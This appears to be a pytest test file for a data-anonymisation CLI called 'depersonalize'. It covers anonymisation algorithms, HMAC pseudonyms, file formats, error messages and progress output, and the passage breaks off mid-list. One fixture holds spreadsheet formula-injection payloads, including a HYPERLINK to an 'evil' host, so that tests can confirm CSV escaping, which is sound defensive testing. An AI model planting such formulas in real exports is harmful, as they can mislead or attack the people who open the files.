"""The ``depersonalize`` command, run as a separate process (the installed console script of
this interpreter's environment, else ``python -m pdanon.cli.depersonalize``)."""

from __future__ import annotations

import hashlib
import hmac
import io
import os
import pathlib
import shutil
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest

import pdanon  # noqa: F401  (registers the generalization dtype for Parquet reads)


def _command() -> list[str]:
    sibling = pathlib.Path(sys.executable).with_name("depersonalize")
    if sibling.exists():
        return [str(sibling)]
    found = shutil.which("depersonalize")
    if found and pathlib.Path(found).parent == pathlib.Path(sys.executable).parent:
        return [found]
    return [sys.executable, "-m", "pdanon.cli.depersonalize"]


CMD = _command()
PEOPLE = pd.DataFrame({
    "name": ["ann", "bob", "cid", "dan", "eve", "fay"],
    "age": [30, 31, 40, 42, 55, 57],
    "edu": [1, 2, 2, 3, 3, 4],
    "sex": ["F", "M", "M", "F", "F", "M"],
    "disease": ["flu", "hiv", "flu", "cold", "hiv", "flu"],
})


def run(*args, env=None, check_one_line_error=False):
    proc = subprocess.run(CMD + [str(a) for a in args], capture_output=True, text=True,
                          env=dict(os.environ, **(env or {})), timeout=300)
    assert "Traceback" not in proc.stderr, proc.stderr
    if check_one_line_error:
        assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("depersonalize: error: "), proc.stderr
    return proc


@pytest.fixture()
def csv_with_header(tmp_path):
    path = tmp_path / "people.csv"
    PEOPLE.to_csv(path, index=False)
    return path


@pytest.fixture()
def csv_plain(tmp_path):
    path = tmp_path / "plain.csv"
    PEOPLE.to_csv(path, index=False, header=False)
    return path


def read_out(text: str, header=True) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), header=0 if header else None, dtype=str,
                       keep_default_na=False)


def classes_at_least(df: pd.DataFrame, cols, k) -> bool:
    return int(df.groupby(list(cols), dropna=False).size().min()) >= k


# ============================================================================ algorithms


def test_default_is_group_join_suppression_on_stdout(csv_with_header):
    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-k", 2, "--i_ids", 0, "--s_ids", 4, "-s", 1)
    assert proc.returncode == 0, proc.stderr
    out = read_out(proc.stdout)
    assert list(out.columns) == ["age", "edu", "sex", "disease"]
    assert out["disease"].tolist() == PEOPLE["disease"].tolist()
    assert classes_at_least(out, ["age", "edu", "sex"], 2)
    # suppression only: every cell is the original or empty
    for c in ("age", "edu", "sex"):
        assert all(v == "" or v == str(o) for v, o in zip(out[c], PEOPLE[c]))


@pytest.mark.parametrize("algorithm, extra", [
    ("time_optimal", ["-r", "g"]), ("time_optimal", ["-r", "a"]), ("time_optimal", ["-r", "s"]),
    ("time_optimal", ["-m", "l", "-l", 2, "-r", "g"]),
    ("datafly", []), ("datafly", ["--k_suppressed_lines", 0]), ("greedy", []),
    ("group_join", ["-r", "g", "-m", "l", "-l", 2]),
    ("group_join", ["-r", "a", "-m", "t", "-t", 0.5, "--s_types", "u"]),
    ("baseline", []), ("baseline", ["-m", "l", "-l", 2]),
    ("baseline", ["-m", "t", "-t", 0.5, "--s_types", "u"]),
])
@pytest.mark.slow
def test_anonymizing_algorithms(csv_with_header, algorithm, extra):
    proc = run("-i", csv_with_header, "-f", "-a", algorithm, "-k", 2, "--i_ids", 0,
               "--s_ids", 4, "--types", "roo" if algorithm != "baseline" else "uuu", "-s", 3,
               *extra)
    assert proc.returncode == 0, proc.stderr
    out = read_out(proc.stdout)
    assert list(out.columns) == ["age", "edu", "sex", "disease"]
    kept = out[~((out["age"] == "") & (out["edu"] == "") & (out["sex"] == ""))]
    if algorithm != "datafly":
        kept = out
    assert classes_at_least(kept, ["age", "edu", "sex"], 2)
    if "-r" in extra and extra[extra.index("-r") + 1] == "g" or algorithm in ("greedy",):
        assert out["age"].str.startswith("[").any()


def test_types_letters_and_generalized_text(csv_with_header):
    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
               "--i_ids", 0, "--s_ids", 4, "--types", "rou")
    out = read_out(proc.stdout)
    # (30, F) is nearest to (31, M)? no: age 1/27 + edu 1/6 + sex 1 > 12/27 + 2/6 + 0 (42, F)
    assert out["age"].tolist()[:2] == ["[30, 42]", "[31, 40]"]
    assert out["sex"].tolist()[0] == "F"


@pytest.mark.slow
def test_without_header_and_left(csv_plain):
    proc = run("--row-order", "input", "-i", csv_plain, "-a", "time_optimal", "-k", 3, "--i_ids", 0, "--qi_ids", "1,2",
               "--s_ids", "left")
    assert proc.returncode == 0, proc.stderr
    out = read_out(proc.stdout, header=False)
    assert out.shape == (6, 4)
    assert out[3].tolist() == PEOPLE["disease"].tolist()


@pytest.mark.slow
def test_perturbations(csv_with_header):
    hashed = read_out(run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0,
                          "--s_ids", 4).stdout)
    assert hashed["name"].str.len().eq(64).all() and hashed["age"].tolist() == [
        str(a) for a in PEOPLE["age"]]
    # the shufflers keep identifier columns (the reference's contract): name is declared one
    a = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--cols2shuffle", "1,4",
            "-s", 7)
    b = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "shuffler", "--i_ids", 0, "--cols2shuffle", "1,4",
            "-s", 7)
    assert a.stdout == b.stdout
    sh = read_out(a.stdout)
    assert sorted(sh["age"].astype(int)) == sorted(PEOPLE["age"])
    assert sh["name"].tolist() == PEOPLE["name"].tolist()
    batch = read_out(run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "batch_shuffler", "--i_ids", 0,
                         "--qi_ids", 3, "--s_ids", "1,2,4", "-s", 2).stdout)
    for sex, grp in PEOPLE.groupby("sex"):
        assert sorted(batch.loc[batch["sex"] == sex, "age"].astype(int)) == sorted(grp["age"])
    rnd = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "randomization", "--i_ids", 0, "--s_ids", 4,
              "--types", "rou", "--scale", 0.1, "-s", 5)
    again = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "randomization", "--i_ids", 0, "--s_ids", 4,
                "--types", "rou", "--scale", 0.1, "-s", 5)
    assert rnd.returncode == 0 and rnd.stdout == again.stdout
    out = read_out(rnd.stdout)
    assert "name" not in out.columns and out["age"].astype(float).between(30, 57).all()


# ============================================================================ hasher and keys

KEY = b"0123456789abcdef0123456789abcdef"


def test_unkeyed_hasher_warns_and_points_to_key_file(csv_with_header):
    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--qi_ids", "1,2,3",
               "--s_ids", 4)
    assert proc.returncode == 0
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("depersonalize: warning: ")
    assert "unkeyed SHA-256" in lines[0] and "--key-file" in lines[0]
    assert "phone numbers" in lines[0] and "every candidate" in lines[0]
    out = read_out(proc.stdout)
    # still the reference's output: SHA-256 of the numpy text of the row of identifiers
    assert out["name"][0] == hashlib.sha256(b"['ann']").hexdigest()


@pytest.mark.slow
@pytest.mark.parametrize("content", [KEY, KEY + b"\n", KEY + b"\r\n"])
def test_key_file_gives_hmac_pseudonyms_without_warning(tmp_path, csv_with_header, content):
    key_file = tmp_path / "key"
    key_file.write_bytes(content)
    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", "0,3", "--qi_ids", "1,2",
               "--s_ids", 4,
               "--key-file", key_file)
    assert proc.returncode == 0 and proc.stderr == "", proc.stderr
    out = read_out(proc.stdout)
    assert out["name"].tolist() == [hmac.new(KEY, n.encode(), hashlib.sha256).hexdigest()
                                    for n in PEOPLE["name"]]
    assert out["sex"][0] == hmac.new(KEY, b"F", hashlib.sha256).hexdigest()
    assert out["age"].tolist() == [str(a) for a in PEOPLE["age"]]
    assert out["disease"].tolist() == PEOPLE["disease"].tolist()


@pytest.mark.slow
def test_key_file_with_column_context(tmp_path, csv_with_header, csv_plain):
    key_file = tmp_path / "key"
    key_file.write_bytes(KEY + b"\n")
    both = pd.DataFrame({"home": ["+7900", "x"], "work": ["+7900", "y"]})
    path = tmp_path / "phones.csv"
    both.to_csv(path, index=False)
    plain = read_out(run("--row-order", "input", "-i", path, "-f", "-a", "hasher", "--i_ids", "0,1",
                         "--key-file", key_file).stdout)
    assert plain["home"][0] == plain["work"][0]
    proc = run("--row-order", "input", "-i", path, "-f", "-a", "hasher", "--i_ids", "0,1", "--key-file", key_file,
               "--hash-context", "column")
    assert proc.returncode == 0 and proc.stderr == ""
    sep = read_out(proc.stdout)
    assert sep["home"][0] == hmac.new(KEY, b"\x00\x00\x00\x04home+7900",
                                      hashlib.sha256).hexdigest()
    assert sep["work"][0] == hmac.new(KEY, b"\x00\x00\x00\x04work+7900",
                                      hashlib.sha256).hexdigest()
    # without a header the column's number is its context
    numbered = read_out(run("--row-order", "input", "-i", csv_plain, "-a", "hasher", "--i_ids", 0, "--key-file",
                            key_file, "--hash-context", "column").stdout, header=False)
    assert numbered[0][0] == hmac.new(KEY, b"\x00\x00\x00\x010ann", hashlib.sha256).hexdigest()


def test_short_key_file_warns_in_one_line(tmp_path, csv_with_header):
    key_file = tmp_path / "key"
    key_file.write_text("tiny\n")
    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "hasher", "--i_ids", 0, "--qi_ids", "1,2,3,4",
               "--key-file", key_file)
    assert proc.returncode == 0
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("depersonalize: warning: ")
    assert "only 4 bytes" in lines[0]
    assert read_out(proc.stdout)["name"][0] == hmac.new(b"tiny", b"ann",
                                                        hashlib.sha256).hexdigest()


@pytest.mark.parametrize("setup, extra, fragment", [
    ("missing", [], "cannot read key file"),
    ("empty", [], "is empty"),
    ("newline", [], "is empty"),
    ("dir", [], "is a directory"),
    ("ok", ["-a", "shuffler"], "--key-file applies to -a hasher"),
    (None, ["--hash-context", "column"], "--hash-context needs --key-file"),
    ("ok", ["--hash-context", "row"], "invalid choice"),
])
@pytest.mark.slow
def test_key_file_errors(tmp_path, csv_with_header, setup, extra, fragment):
    paths = {"missing": tmp_path / "nope", "empty": tmp_path / "empty",
             "newline": tmp_path / "newline", "dir": tmp_path, "ok": tmp_path / "ok"}
    (tmp_path / "empty").write_bytes(b"")
    (tmp_path / "newline").write_bytes(b"\n")
    (tmp_path / "ok").write_bytes(KEY)
    args = ["-i", csv_with_header, "-f", "--i_ids", 0]
    if "-a" not in extra:
        args += ["-a", "hasher"]
    if setup is not None:
        args += ["--key-file", paths[setup]]
    proc = run(*args, *extra, check_one_line_error=True)
    assert fragment in proc.stderr, proc.stderr
    assert proc.stdout == ""


# ============================================================================ CSV formulas


#: shuffle column 0 (a quasi-identifier), the other columns published unchanged on purpose
SHUFFLE_ID = ("--qi_ids", 0, "--insensitive_ids", "1,2", "--cols2shuffle", 0, "-s", 1)
SHUFFLE_ID2 = ("--qi_ids", 0, "--insensitive_ids", 1, "--cols2shuffle", 0, "-s", 1)


@pytest.fixture()
def csv_formulas(tmp_path):
    path = tmp_path / "formulas.csv"
    pd.DataFrame({"id": [1, 2, 3], "delta": [-5, 3, -1],
                  "note": ["=HYPERLINK(\"http://evil\")", "@SUM(A1)", "fine"]}).to_csv(
        path, index=False)
    return path


def test_csv_output_neutralizes_formulas_by_default(tmp_path, csv_formulas):
    proc = run("--row-order", "input", "-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID)
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0] == "id,delta,note"
    assert [ln.split(",", 2)[1:] for ln in lines[1:]] == [
        ["-5", "\"'=HYPERLINK(\"\"http://evil\"\")\""], ["3", "'@SUM(A1)"], ["-1", "fine"]]
    # the same to a file
    out = tmp_path / "o.csv"
    assert run("--row-order", "input", "-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
               "-o", out).returncode == 0
    assert out.read_text() == proc.stdout
    # turned off
    raw = run("--row-order", "input", "-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
              "--no-csv-escape")
    assert read_out(raw.stdout)["note"].tolist() == ["=HYPERLINK(\"http://evil\")", "@SUM(A1)",
                                                     "fine"]


def test_parquet_output_is_not_escaped(tmp_path, csv_formulas):
    out = tmp_path / "o.parquet"
    proc = run("--row-order", "input", "-i", csv_formulas, "-f", "-a", "shuffler", *SHUFFLE_ID,
               "-o", out)
    assert proc.returncode == 0, proc.stderr
    frame = pd.read_parquet(out)
    assert frame["note"].tolist() == ["=HYPERLINK(\"http://evil\")", "@SUM(A1)", "fine"]
    assert frame["delta"].tolist() == [-5, 3, -1]


def test_main_in_process_captures_the_hasher_warning(capsys, csv_with_header):
    from pdanon.cli.depersonalize import main

    assert main(["-i", str(csv_with_header), "-f", "-a", "hasher", "--i_ids", "0"]) == 0
    captured = capsys.readouterr()
    assert "--key-file" in captured.err and captured.out.startswith("name,age")


# ============================================================================ files


def test_output_files_csv_and_parquet(tmp_path, csv_with_header):
    csv_out = tmp_path / "out.csv"
    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
               "--i_ids", 0, "--s_ids", 4, "--types", "rou", "-o", csv_out)
    assert proc.returncode == 0 and proc.stdout == ""
    assert "-> " in proc.stderr and csv_out.exists()
    back = pdanon.read_csv(csv_out, schema={"age": "real", "edu": "ordered", "sex": "unordered"})
    assert str(back["age"].dtype) == "generalization[real]"
    pq_out = tmp_path / "out.parquet"
    proc = run("--row-order", "input", "-i", csv_with_header, "-f", "-a", "time_optimal", "-r", "g", "-k", 2,
               "--i_ids", 0, "--s_ids", 4, "--types", "rou", "-o", pq_out)
    assert proc.returncode == 0, proc.stderr
    frame = pd.read_parquet(pq_out)
    assert str(frame["age"].dtype) == "generalization[real]"
    assert frame["age"].astype(str).tolist()[:2] == ["[30, 42]", "[31, 40]"]
    # Parquet in, CSV out
    src = tmp_path / "in.parquet"
    PEOPLE.to_parquet(src)
    proc = run("--row-order", "input", "-i", src, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--s_ids", 4)
    assert proc.returncode == 0, proc.stderr
    assert list(read_out(proc.stdout).columns) == ["age", "edu", "sex", "disease"]


# ============================================================================ errors


@pytest.mark.parametrize("args, fragment", [
    ([], "required: -i/--input"),
    (["-i", "{csv}"], "-k is required"),
    (["-i", "{csv}", "-k", "x"], "-k must be an integer"),
    (["-i", "{csv}", "-k", "2", "-a", "magic"], "invalid choice"),
    (["-i", "{csv}", "-k", "2", "-m", "q"], "invalid choice"),
    (["-i", "{csv}", "-k", "2", "-m", "l"], "-l is required"),
    (["-i", "{csv}", "-k", "2", "-m", "t", "-a", "time_optimal", "-t", "0.1"],
     "-a time_optimal does not enforce -m t; -m k works with -a baseline, time_optimal, "
     "datafly, greedy, group_join; -m l with baseline, time_optimal, datafly, greedy, "
     "group_join; -m t with baseline, datafly, greedy, group_join"),
    (["-i", "{csv}", "-k", "2", "-m", "t", "-a", "datafly", "-t", "0"], "-t 0 asks every"),
    (["-i", "{csv}", "-k", "2", "-m", "t", "-a", "datafly", "-t", "-1"], "-t must be >= 0"),
    (["-i", "{csv}", "-k", "2", "--types", "rox"], "unknown kind letter 'x'"),
    (["-i", "{csv}", "-k", "2", "-r", "g", "--types", "rr"], "2 entries but there are 5"),
    (["-i", "{csv}", "-k", "2", "--i_ids", "left", "--s_ids", "left"], "only one"),
    (["-i", "{csv}", "-k", "2", "--s_ids", "1,a"], "column numbers"),
    (["-i", "{csv}", "-k", "2", "--s_ids", "9"], "column 9"),
    (["-i", "{csv}", "-k", "99"], "cannot reach k=99"),
    (["-i", "{csv}", "-k", "2", "-m", "l", "-l", "5", "--s_ids", "4", "-a", "time_optimal"],
     "cannot be met"),
    (["-i", "{csv}", "-k", "2", "-a", "time_optimal", "-r", "g", "--types", "uuuuu"],
     None),  # fine: every column unordered (the header line is data without -f)
    (["-i", "{missing}", "-k", "2"], "file not found"),
    (["-i", "{dir}", "-k", "2"], "is a directory"),
    (["-i", "{empty}", "-k", "2"], "empty"),
    (["-i", "{badparquet}", "-k", "2"], "cannot read"),
    (["-i", "{csv}", "-f", "-k", "2", "--types", "ruuuu", "-a", "time_optimal", "-r", "g",
      "--qi_ids", "0,1,2,3,4"], "column 0 ('name') is real (--types / --s_types r) but holds"),
    (["-i", "{csv}", "-f", "-k", "2", "-a", "datafly"], "column 0 (name): its name looks like "
     "an identifier"),
    (["-i", "{csv}", "-k", "2", "-a", "datafly", "-o", "{dir}/x/y/z.csv"], "cannot write"),
])
@pytest.mark.slow
def test_errors_are_one_line_with_exit_code_2(tmp_path, csv_with_header, args, fragment):
    (tmp_path / "empty.csv").write_text("")
    (tmp_path / "bad.parquet").write_bytes(b"not a parquet file")
    subs = {"{csv}": str(csv_with_header), "{missing}": str(tmp_path / "nope.csv"),
            "{dir}": str(tmp_path), "{empty}": str(tmp_path / "empty.csv"),
            "{badparquet}": str(tmp_path / "bad.parquet")}
    args = [subs.get(a, a) for a in args]
    args = [a.replace("{dir}", str(tmp_path)) for a in args]
    if fragment is None:
        assert run(*args).returncode == 0
        return
    proc = run(*args, check_one_line_error=True)
    assert fragment in proc.stderr, proc.stderr


def test_help_exits_zero():
    proc = run("-h")
    assert proc.returncode == 0
    for flag in ("-i INPUT", "--header", "--output", "--algorithm", "--metric", "--method",
                 "--qi_ids", "--i_ids", "--s_ids", "--types", "--s_types", "--seed",
                 "--k_suppressed_lines", "--scale", "--cols2shuffle", "--progress",
                 "--key-file", "--hash-context", "--no-csv-escape"):
        assert flag in proc.stdout


# ============================================================================ progress


@pytest.fixture()
def big_csv(tmp_path):
    rng = np.random.default_rng(0)
    big = pd.DataFrame({"a": rng.integers(0, 90, 3000), "b": rng.integers(0, 90, 3000),
                        "c": rng.integers(0, 9, 3000)})
    path = tmp_path / "big.csv"
    big.to_csv(path, index=False)
    return path


def test_progress_spinner_on_long_runs(big_csv, tmp_path, monkeypatch, capsys):
    # the algorithms without a bar of their own (hasher, randomization, shufflers) get the
    # spinner with the elapsed time; a slow stand-in makes this run last
    import time

    from pdanon.cli import depersonalize as cli
    from pdanon.algorithms import RandomizationBaselineDepersonalizator as R

    slow = R.depersonalize

    def depersonalize(self, *a, **kw):
        time.sleep(0.3)
        return slow(self, *a, **kw)

    monkeypatch.setattr(R, "depersonalize", depersonalize)
    monkeypatch.setenv("PDANON_PROGRESS_DELAY", "0")
    args = ["-i", str(big_csv), "-f", "-a", "randomization", "--types", "rrr", "-s", "1",
            "-o", str(tmp_path / "o.csv")]
    assert cli.main([*args, "--progress", "always"]) == 0
    err = capsys.readouterr().err
    assert "depersonalize: randomization |" in err and " done in " in err
    assert cli.main([*args, "--progress", "never"]) == 0
    assert "done in" not in capsys.readouterr().err
    # auto: only on a terminal (a captured stderr is not one)
    assert cli.main(args) == 0
    assert "done in" not in capsys.readouterr().err


@pytest.mark.slow
def test_progress_bar_with_tqdm(big_csv, tmp_path):
    pytest.importorskip("tqdm")
    args = ["-i", big_csv, "-f", "-a", "time_optimal", "-r", "g", "-k", 5, "--types", "rrr",
            "-o", tmp_path / "o.csv"]
    shown = run(*args, "--progress", "always", env={"PDANON_PROGRESS_DELAY": "0"})
    assert shown.returncode == 0, shown.stderr
    assert "nearest: rows grouped" in shown.stderr and "3000/3000" in shown.stderr
    assert "done in" not in shown.stderr  # the bar replaces the spinner
    for extra in (["--progress", "never"], []):  # never; auto: stderr is not a terminal
        quiet = run(*args, *extra, env={"PDANON_PROGRESS_DELAY": "0"})
        assert quiet.returncode == 0 and "nearest:" not in quiet.stderr, quiet.stderr


@pytest.mark.slow
@pytest.mark.parametrize("algorithm, desc", [("greedy", "equal_groups: group size"),
                                             ("datafly", "datafly: generalization steps")])
def test_progress_bar_of_greedy_and_datafly(big_csv, tmp_path, algorithm, desc):
    pytest.importorskip("tqdm")
    args = ["-i", big_csv, "-f", "-a", algorithm, "-k", 5, "--types", "rrr",
            "-o", tmp_path / "o.csv"]
    shown = run(*args, "--progress", "always", env={"PDANON_PROGRESS_DELAY": "0"})
    assert shown.returncode == 0, shown.stderr
    assert desc in shown.stderr and "done in" not in shown.stderr  # a bar, not the spinner
    for extra in (["--progress", "never"], []):  # never; auto: stderr is not a terminal
        quiet = run(*args, *extra, env={"PDANON_PROGRESS_DELAY": "0"})
        assert quiet.returncode == 0 and desc not in quiet.stderr, quiet.stderr
        assert "done in" not in quiet.stderr


def test_progress_spinner_without_tqdm(big_csv, tmp_path, monkeypatch, capsys):
    from pdanon import progress
    from pdanon.cli import depersonalize as cli

    monkeypatch.setattr(progress, "tqdm_available", lambda: False)
    monkeypatch.setenv("PDANON_PROGRESS_DELAY", "0")
    code = cli.main(["-i", str(big_csv), "-f", "-a", "group_join", "-k", "5",
                     "-o", str(tmp_path / "o.csv"), "--progress", "always"])
    err = capsys.readouterr().err
    assert code == 0, err
    assert "depersonalize: group_join (k, suppression)" in err and "done in" in err


def test_progress_object_waits_for_the_delay():
    from pdanon.cli.depersonalize import Progress

    buf = io.StringIO()
    with Progress("x", True, delay=10, stream=buf):
        pass
    assert buf.getvalue() == ""
    buf = io.StringIO()
    import time

    with Progress("x", True, delay=0.05, stream=buf) as p:
        time.sleep(0.3)
    assert p.shown and "depersonalize: x" in buf.getvalue() and "done in" in buf.getvalue()


def test_compat_entry_point_is_the_same_main():
    from pdanon.cli.depersonalize import main
    from pdanon.compat.cp2025.depersonalize import main as compat_main

    assert compat_main is main


# ============================================================================ privacy flags are never ignored

PAIRS = pd.DataFrame({  # k=2 alone keeps the pairs, each with one disease (l = 1)
    "id": [f"p{i}" for i in range(8)],
    "age": [20, 20, 30, 30, 40, 40, 50, 50],
    "zip": [1, 1, 2, 2, 3, 3, 4, 4],
    "disease": ["flu", "flu", "hiv", "hiv", "flu", "flu", "hiv", "hiv"],
})


@pytest.fixture()
def csv_pairs(tmp_path):
    path = tmp_path / "pairs.csv"
    PAIRS.to_csv(path, index=False)
    return path


def out_l_t(out: pd.DataFrame, qis) -> tuple[int, float]:
    """The distinct l and the total-variation t (two values: EMD) of the published classes
    (rows whose every quasi-identifier is suppressed form no class)."""
    kept = out[~(out[list(qis)] == "").all(axis=1)]
    whole = PAIRS["disease"].value_counts(normalize=True)
    l, t = 10**9, 0.0
    for _, grp in kept.groupby(list(qis)):
        share = grp["disease"].value_counts(normalize=True).reindex(whole.index, fill_value=0)
        l = min(l, grp["disease"].nunique())
        t = max(t, float((share - whole).abs().sum() / 2))
    return l, t


@pytest.mark.slow
@pytest.mark.parametrize("algorithm", ["datafly", "greedy"])
def test_datafly_and_greedy_enforce_l_and_t(csv_pairs, algorithm):
    base = ["-i", csv_pairs, "-f", "-a", algorithm, "-k", 2, "--i_ids", 0, "--qi_ids", "1,2",
            "--s_ids", 3, "--types", "rr"]
    k_only = read_out(run(*base).stdout)
    assert out_l_t(k_only, ["age", "zip"])[0] == 1  # what -m l used to print
    proc = run(*base, "-m", "l", "-l", 2)
    assert proc.returncode == 0 and proc.stderr == ""
    out = read_out(proc.stdout)
    assert list(out.columns) == ["age", "zip", "disease"]
    assert out_l_t(out, ["age", "zip"])[0] >= 2
    assert classes_at_least(out[~(out[["age", "zip"]] == "").all(axis=1)], ["age", "zip"], 2)
    out = read_out(run(*base, "-m", "t", "-t", 0.1, "--s_types", "u").stdout)
    assert out_l_t(out, ["age", "zip"])[1] <= 0.1


def test_main_in_process_datafly_l(capsys, csv_pairs):
    from pdanon.cli.depersonalize import main

    assert main(["-i", str(csv_pairs), "-f", "-a", "datafly", "-m", "l", "-l", "2", "-k", "2",
                 "--i_ids", "0", "--s_ids", "3", "--types", "rr"]) == 0
    out = read_out(capsys.readouterr().out)
    assert out_l_t(out, ["age", "zip"])[0] >= 2


COMBINATIONS = ("-m k works with -a baseline, time_optimal, datafly, greedy, group_join; -m l "
                "with baseline, time_optimal, datafly, greedy, group_join; -m t with baseline, "
                "datafly, greedy, group_join")


@pytest.mark.parametrize("args, message", [
    (["-a", "hasher", "-m", "l", "-l", "2"], "-a hasher does not enforce -m l; " + COMBINATIONS),
    (["-a", "shuffler", "-k", "2"], "-a shuffler does not enforce -k; " + COMBINATIONS),
    (["-a", "randomization", "-m", "t", "-t", "0.2"],
     "-a randomization does not enforce -m t; " + COMBINATIONS),
    (["-a", "datafly", "-k", "2", "-l", "2"], "-l is the l of l-diversity: add -m l (got -m k)"),
    (["-a", "greedy", "-k", "2", "-m", "l", "-t", "0.2"],
     "-t is the t of t-closeness: add -m t (got -m l)"),
])
@pytest.mark.slow
def test_ignored_privacy_flags_are_errors(csv_pairs, args, message):
    proc = run("-i", csv_pairs, "-f", *args, check_one_line_error=True)
    assert proc.stderr == f"depersonalize: error: {message}\n"


def test_messages_name_flags_not_parameters(csv_pairs):
    proc = run("-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--types", "r",
               "--qi_ids", "0,1,2,3", check_one_line_error=True)
    assert proc.stderr == ("depersonalize: error: --types has 1 entries but there are 4 such "
                           "column(s); give one kind (real, ordered, unordered) per column\n")
    proc = run("-i", csv_pairs, "-f", "-a", "baseline", "-k", 2, "--i_ids", 0, "--s_ids", 3,
               "-m", "t",
               "-t", 0.2, "--s_types", "rr", check_one_line_error=True)
    assert "--s_types" in proc.stderr and "sensitives_types" not in proc.stderr


def test_columns_without_a_role_are_kept(csv_pairs):
    proc = run("--row-order", "input", "-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", 1,
               "--s_ids", 3, "--types", "r", "--insensitive_ids", 2)
    assert proc.returncode == 0 and proc.stderr == ""
    out = read_out(proc.stdout)
    assert list(out.columns) == ["age", "zip", "disease"]
    assert out["zip"].tolist() == [str(z) for z in PAIRS["zip"]]


@pytest.mark.slow
def test_header_line_without_f_warns(csv_pairs, csv_plain):
    proc = run("-i", csv_pairs, "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", "1,2",
               "--s_ids", 3)
    assert proc.returncode == 0
    assert proc.stderr == (
        "depersonalize: warning: the first line (id, age, zip, disease) looks like a header "
        "(text above numeric columns) but -f/--header was not given, so it is anonymized as a "
        "data row; add -f if it is a header\n")
    assert run("-i", csv_pairs, "-f", "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", "1,2",
               "--s_ids", 3).stderr == ""
    assert run("-i", csv_plain, "-a", "datafly", "-k", 2, "--i_ids", 0, "--qi_ids", "1,2,3",
               "--s_ids", 4).stderr == ""
    proc = run("-i", csv_pairs, "-a", "datafly", "-k", 2, "--types", "rr", "--i_ids", 0,
               "--qi_ids", "1,2", "--s_ids", 3, check_one_line_error=True)
    assert proc.stderr.endswith(" (the first line looks like a header: add -f if it is one)\n")


# ============================================================================ missing values


MESSY = ("age,zip,sex,disease\n30,10001,F,flu\n31,,F,cold\n,10002,M,flu\n45,10002,,cold\n"
         "46,10001,M,\n,,,flu\n")


def test_blank_cells_are_data_and_integer_codes_keep_their_text(tmp_path):
    path = tmp_path / "messy.csv"
    path.write_text(MESSY)
    proc = run("--row-order", "input", "-i", path, "-f", "-a", "time_optimal", "-r", "g", "-k", 2, "--qi_ids", "0,1,2",
               "--types", "ruu")
    assert proc.returncode == 0, proc.stderr
    # rows 2 and 4 share {10001, 10002} and M; a class mixing a blank and a value publishes
    # the cell blank (suppressed); ZIP codes with blanks stay integers, never 10001.0
    assert proc.stdout.splitlines() == [
        "age,zip,sex,disease",
        '"[30, 31]",,F,flu',
        '"[30, 31]",,F,cold',
        ',"{10001, 10002}",M,flu',
        ",,,cold",
        ',"{10001, 10002}",M,',
        ",,,flu",
    ]


# ============================================================================ --report


@pytest.mark.slow
def test_report_flag_writes_the_release_report(tmp_path):
    from tests._helpers.html_checks import accessibility_problems, external_urls

    df = pdanon.datasets.make_patients(120, seed=5)
    df.loc[3, "zipcode"] = "99917"  # one row's zip code: suppressed or merged away below
    src = tmp_path / "in.csv"
    df.to_csv(src, index=False)
    report = tmp_path / "report.html"
    proc = run("-i", src, "-f", "-a", "group_join", "-r", "g", "-k", "4", "-s", "987654321",
               "--qi_ids", "0,1", "--s_ids", "3", "-o", tmp_path / "out.csv",
               "--report", report)
    assert proc.returncode == 0, proc.stderr
    page = report.read_text(encoding="utf-8")
    assert accessibility_problems(page) == [] and external_urls(page) == []
    assert "987654321" not in page and "seed given" in page
    out = pd.read_csv(tmp_path / "out.csv")
    assert "99917" in out["zipcode"].astype(str).str.cat() or "99917" not in page
    assert "<td>zipcode</td><td>quasi-identifier</td>" in page.replace("\n", "")
    bad = run("-i", src, "-f", "-k", "2", "--report", tmp_path / "no" / "r.html",
              check_one_line_error=True)
    assert "cannot write" in bad.stderr


def test_report_kind_guess_without_the_input():
    """--report guesses a quasi-identifier's kind from the input column, or from the released
    one when rows were dropped and the input is left out of the report."""
    from pdanon.cli.depersonalize import _kind_guess

    assert _kind_guess(pd.Series([1, 2]), None) == "real"
    assert _kind_guess(pd.Series(["a", "b"]), pd.Series([1, 2])) == "real"
    assert _kind_guess(pd.Series(["a", "b"]), None) == "unordered"


# ============================================================================ issue 27: bad arguments are refused


def _refused(*args):
    """Run the command; it must fail with one ``depersonalize: error:`` line, exit code 2 and
    nothing on standard output. Returns the message (without the prefix)."""
    proc = run(*args, check_one_line_error=True)
    assert proc.stdout == "", proc.stdout
    return proc.stderr.strip()[len("depersonalize: error: "):]


@pytest.mark.parametrize("cols, message", [
    ("99", "--cols2shuffle names column 99, but the table has 5 columns (0..4)"),
    ("5", "--cols2shuffle names column 5, but the table has 5 columns (0..4)"),
    ("1,99", "--cols2shuffle names column 99, but the table has 5 columns (0..4)"),
